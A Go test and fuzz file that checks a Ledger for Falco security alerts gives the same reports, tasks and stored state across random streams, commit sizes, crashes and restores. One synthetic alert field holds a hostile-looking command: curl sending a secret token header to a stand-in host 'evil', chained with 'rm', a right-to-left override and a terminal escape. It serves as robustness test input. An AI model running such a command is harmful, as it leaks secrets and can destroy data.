package processor

import (
	"bytes"
	"cmp"
	"encoding/json"
	"fmt"
	"maps"
	"math/rand/v2"
	"slices"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// The promise of the Ledger: what it gives out depends on the messages alone.
// Here random streams are folded in one go, in small rooms, and with crashes
// that lose what was not committed and restore what was; all must agree with
// one another, and with an oracle that knows no rooms, heaps or crashes.

// dice returns a number from 0 to n-1.
type dice func(n int) int

func seeded(seed uint64) dice {
	r := rand.New(rand.NewPCG(seed, 7))
	return r.IntN
}

// bytesDice rolls what a fuzzer wrote, and zeros after it.
func bytesDice(data []byte) dice {
	return func(n int) int {
		if len(data) == 0 {
			return 0
		}
		v := int(data[0])
		data = data[1:]
		return v % n
	}
}

// script makes a stream of n turns.
type script struct {
	roll dice
	seq  uint64
	now  time.Time
	msgs []Message

	crowded bool
}

func randomStream(roll dice, turns int) []Message {
	s := &script{roll: roll, now: epoch}
	for range turns {
		s.wait()
		s.turn()
	}
	return s.msgs
}

// wait moves the broker's clock: mostly on, sometimes far, sometimes back.
func (s *script) wait() {
	switch d := s.roll(16); {
	case d == 0:
		s.now = s.now.Add(-time.Duration(s.roll(20)) * time.Minute)
	case d == 1:
		s.now = s.now.Add(time.Duration(s.roll(5)) * time.Hour)
	case d == 2:
		s.now = s.now.Add(time.Duration(s.roll(13)) * 5 * time.Minute)
	case d < 12:
		s.now = s.now.Add(time.Duration(s.roll(120)) * time.Second)
	}
}

func (s *script) turn() {
	switch d := s.roll(32); {
	case d == 0:
		s.put(Message{Kind: TickMessage})
	case d == 1:
		s.put(Message{Data: []byte("{\"rule\":\"\x00\"}")})
	case d == 2:
		s.put(Message{Data: alertJSON(RuleSnapshot, s.now, nil)})
	case d == 3:
		s.alert([]string{bomb, mute, wordless}[s.roll(3)], nil)
	case d == 4 && !s.crowded:
		s.crowded = true
		for i := range 70 + s.roll(20) { // more than MinRoom
			s.alert(shellRule, fields{"k8s.ns.name": fmt.Sprintf("crowd-%d", i)})
		}
	case d == 5:
		s.order()
	case d == 6:
		s.put(Message{Kind: []MessageKind{AlertMessage, DropMessage}[s.roll(2)], Data: alertJSON(RuleDrops, s.now, fields{
			"source": "internal", "hostname": fmt.Sprintf("node-%d", s.roll(3)), "n_drops": s.roll(3), "evt.num": s.seq,
		})})
	case d < 9 && len(s.msgs) > 0:
		old := s.msgs[len(s.msgs)-1-s.roll(min(len(s.msgs), 90))]
		s.put(Message{Data: append(bytes.Clone(old.Data), ' '), Kind: old.Kind}) // a copy, byte-different
	default:
		s.alert([]string{shellRule, shellRule, burstRule, nothing}[s.roll(4)], s.details())
	}
}

// order begins a silence, ends one, or asks for what cannot be.
func (s *script) order() {
	id := fmt.Sprintf("%08x", s.roll(4))
	until := s.now.Add(time.Duration(s.roll(120)) * time.Minute)
	match := []string{"user=root", "k8s.ns.name!~ns[1-9]", "priority=~Warning|Error", "tag=container", "rule=" + burstRule}[s.roll(5)]
	data := fmt.Appendf(nil, `{"schema":"silence.v1","add":{"id":%q,"matchers":[%q,"source=syscall"],"author":"a","reason":"r","until":%q}}`,
		id, match, until.Format(time.RFC3339))
	switch s.roll(4) {
	case 0:
		data = fmt.Appendf(nil, `{"schema":"silence.v1","expire":{"id":%q,"author":"b","reason":"over"}}`, id)
	case 1:
		data = data[:s.roll(len(data))]
	}
	s.put(Message{Kind: SilenceMessage, Data: data})
}

func (s *script) details() fields {
	out := fields{
		"k8s.ns.name": fmt.Sprintf("ns%d", s.roll(2)), "hostname": fmt.Sprintf("node-%d", s.roll(2)),
		"user.name": []string{"daemon", "root"}[s.roll(2)],
		"priority":  []string{"Debug", "Notice", "Notice", "Warning", "Error", "Critical", "Alert", "odd"}[s.roll(8)],
	}
	switch s.roll(8) {
	case 0:
		out["proc.cmdline"] = "curl -H 'X-Token: a-secret-value' http://evil/ && \u202e`rm` \x1b[31m"
	case 1:
		out["time"], out["evt.time"] = nil, nil
	case 2:
		out["evt.args"] = []any{"nested", map[string]any{"k": 1.50}, "\x00"}
	}
	return out
}

// alert puts an alert of an event that no other alert is of.
func (s *script) alert(rule string, over fields) {
	s.put(Message{Data: alertJSON(rule, epoch.Add(time.Duration(s.seq)), merge(fields{"evt.num": s.seq}, over))})
}

func (s *script) put(m Message) {
	s.seq += 1 + uint64(s.roll(2))
	m.Seq, m.Time, m.Subject = s.seq, s.now, "falco.notice.shell"
	s.msgs = append(s.msgs, m)
}

// story is all that a run gave out, encoded and in order.
type story struct {
	Reports, Tasks, Dead []string
	// States and Cursor are as stored after the last message.
	States   map[string]string
	Silences string
	Cursor   string
	// End is the cursor after everything has closed.
	End string

	reports []Report
	tasks   []Task
}

// worker runs a ledger against a store, as package stream does.
type worker struct {
	t      *testing.T
	room   int
	ledger *Ledger
	cursor []byte
	states map[string][]byte
	// silences is the list as last stored.
	silences []byte
	history  map[string][][]byte // every revision that was ever stored
	told     story
}

func newWorker(t *testing.T, room int) *worker {
	w := &worker{t: t, room: room, states: map[string][]byte{}, history: map[string][][]byte{}}
	w.cursor, w.silences = encode(t, Cursor{}), encode(t, Silences{})
	w.start()
	return w
}

func encode(t *testing.T, v any) []byte {
	data, err := json.Marshal(v)
	require.NoError(t, err)
	return data
}

// start restores a ledger from what is stored.
func (w *worker) start() {
	var cur Cursor
	require.NoError(w.t, json.Unmarshal(w.cursor, &cur))
	var incidents []*Incident
	for _, fp := range slices.Sorted(maps.Keys(w.states)) {
		in := &Incident{}
		require.NoError(w.t, json.Unmarshal(w.states[fp], in))
		incidents = append(incidents, in)
	}
	w.ledger = NewLedger(Options{Book: testBook{}, Era: "era", Reopen: testReopen})
	var silences Silences
	require.NoError(w.t, json.Unmarshal(w.silences, &silences))
	w.ledger.Restore(cur, incidents, silences)
}

// commit stores what is pending, all of it.
func (w *worker) commit() {
	require.LessOrEqual(w.t, w.ledger.Pending(), w.room)
	ch := w.ledger.Take()
	require.True(w.t, ch.Cursor.Totals.Balanced(), "%+v", ch.Cursor.Totals)
	var old Cursor
	require.NoError(w.t, json.Unmarshal(w.cursor, &old))
	require.GreaterOrEqual(w.t, ch.Cursor.Seq, old.Seq)
	require.GreaterOrEqual(w.t, ch.Cursor.Mark.compare(old.Mark), 0, "the mark never goes back")
	w.cursor = encode(w.t, ch.Cursor)
	for _, in := range ch.Incidents {
		require.True(w.t, in.Closed || Mark{in.End, in.ID}.compare(ch.Cursor.Mark) > 0, "an open incident lies above the mark")
		w.states[in.Fingerprint] = encode(w.t, in)
		w.history[in.Fingerprint] = append(w.history[in.Fingerprint], w.states[in.Fingerprint])
	}
	if ch.Silences != nil {
		w.silences = encode(w.t, ch.Silences)
	}
	for _, fp := range ch.Forgotten {
		delete(w.states, fp)
	}
	w.publish(ch)
}

func (w *worker) publish(ch Changes) {
	for _, r := range ch.Reports {
		w.told.Reports = append(w.told.Reports, string(encode(w.t, r)))
	}
	for _, task := range ch.Tasks {
		w.told.Tasks = append(w.told.Tasks, string(encode(w.t, task)))
	}
	for _, d := range ch.Dead {
		w.told.Dead = append(w.told.Dead, string(encode(w.t, d)))
	}
	w.told.reports = append(w.told.reports, ch.Reports...)
	w.told.tasks = append(w.told.tasks, ch.Tasks...)
}

// revive puts old revisions of forgotten states back into the store, as a
// broker may that is killed after the newest revision expired.
func (w *worker) revive(roll dice) {
	for _, fp := range slices.Sorted(maps.Keys(w.history)) {
		if revisions := w.history[fp]; w.states[fp] == nil && roll(2) == 0 {
			w.states[fp] = revisions[roll(len(revisions))]
		}
	}
}

// play folds the stream. Chaos, if any, says between messages whether to
// commit, and whether to crash and be restored.
func play(t *testing.T, msgs []Message, room int, chaos dice) story {
	w := newWorker(t, room)
	for i := 0; i < len(msgs); {
		if chaos != nil {
			switch chaos(24) {
			case 1, 2, 3:
				w.commit()
			case 4:
				w.revive(chaos)
				w.start()
				i = w.position(msgs)
				continue
			}
		}
		if !w.ledger.Fold(msgs[i], room) {
			w.commit()
			continue
		}
		i++
	}
	return w.finish(chaos)
}

// position is the first message that is not folded yet.
func (w *worker) position(msgs []Message) int {
	at, _ := slices.BinarySearchFunc(msgs, w.ledger.Cursor().Seq+1, func(m Message, seq uint64) int { return cmp.Compare(m.Seq, seq) })
	return at
}

// finish notes what is stored, and closes and forgets everything.
func (w *worker) finish(chaos dice) story {
	w.commit()
	w.told.Cursor, w.told.Silences, w.told.States = string(w.cursor), string(w.silences), map[string]string{}
	for fp, state := range w.states {
		w.told.States[fp] = string(state)
	}
	for !w.ledger.Settle(epoch.AddDate(1, 0, 0), w.room) {
		w.commit()
		if chaos != nil && chaos(2) == 1 {
			w.start()
		}
	}
	w.commit()
	require.Empty(w.t, w.states, "everything is forgotten in the end")
	require.Zero(w.t, w.ledger.Open())
	w.told.End = string(w.cursor)
	return w.told
}

// requireSame compares two runs of one stream.
func requireSame(t *testing.T, want, got story) {
	t.Helper()
	require.Equal(t, want.Reports, got.Reports)
	require.Equal(t, want.Tasks, got.Tasks)
	require.Equal(t, want.Dead, got.Dead)
	require.Equal(t, want.States, got.States)
	require.JSONEq(t, want.Silences, got.Silences)
	require.JSONEq(t, want.Cursor, got.Cursor)
	require.JSONEq(t, want.End, got.End)
}

func TestLedgerOutputsDependOnTheMessagesAlone(t *testing.T) {
	for seed := range uint64(4) {
		t.Run(fmt.Sprintf("seed %d", seed), func(t *testing.T) {
			t.Parallel()
			msgs := randomStream(seeded(seed), 100)
			want := play(t, msgs, 1<<30, nil)
			requireOracle(t, msgs, want)
			for i, room := range []int{MinRoom, 100, 900} {
				requireSame(t, want, play(t, msgs, room, seeded(100*seed+uint64(i))))
			}
		})
	}
}

// A restore right after every commit, and a commit after every message, is the
// most that a ledger can be interrupted.
func TestLedgerRestoredAfterEveryMessage(t *testing.T) {
	msgs := randomStream(seeded(99), 40)
	want := play(t, msgs, 900, nil)
	w := newWorker(t, 900)
	for _, m := range msgs {
		for !w.ledger.Fold(m, w.room) {
			w.commit()
		}
		w.commit()
		w.start()
	}
	requireSame(t, want, w.finish(nil))
}

// A stale revision may say that an incident is open which has closed. The mark
// knows better: it neither closes again, nor counts on.
func TestLedgerRestoresNoDeadIncident(t *testing.T) {
	f := newFeed(t)
	f.shell(0, nil)
	stale := encode(t, f.got.Incidents[0])
	f.shell(30*time.Minute, nil)
	f.tick(91 * time.Minute)
	cur := f.Cursor()

	in := &Incident{}
	require.NoError(t, json.Unmarshal(stale, in))
	require.False(t, in.Closed)
	again := newFeed(t)
	again.seq = cur.Seq
	again.Restore(cur, []*Incident{in}, Silences{})
	require.Zero(t, again.Open())
	require.Nil(t, again.tick(92*time.Minute), "no second closing")
	require.Equal(t, []string{"opened"}, again.shell(93*time.Minute, nil))
	require.Equal(t, f.got.Reports[0].Incident, again.last().Previous)
	require.EqualValues(t, 1, again.last().Occurrences.Count)
}

func FuzzLedger(f *testing.F) {
	r := rand.New(rand.NewPCG(1, 2))
	for range 4 {
		ops, chaos := make([]byte, 200), make([]byte, 60)
		for i := range ops {
			ops[i] = byte(r.Uint32())
		}
		for i := range chaos {
			chaos[i] = byte(r.Uint32())
		}
		f.Add(ops, chaos, uint16(r.Uint32()))
	}
	f.Fuzz(func(t *testing.T, ops, chaos []byte, extra uint16) {
		msgs := randomStream(bytesDice(ops), min(len(ops)/6, 60))
		want := play(t, msgs, 1<<30, nil)
		requireOracle(t, msgs, want)
		requireSame(t, want, play(t, msgs, MinRoom+int(extra%900), bytesDice(chaos)))
	})
}
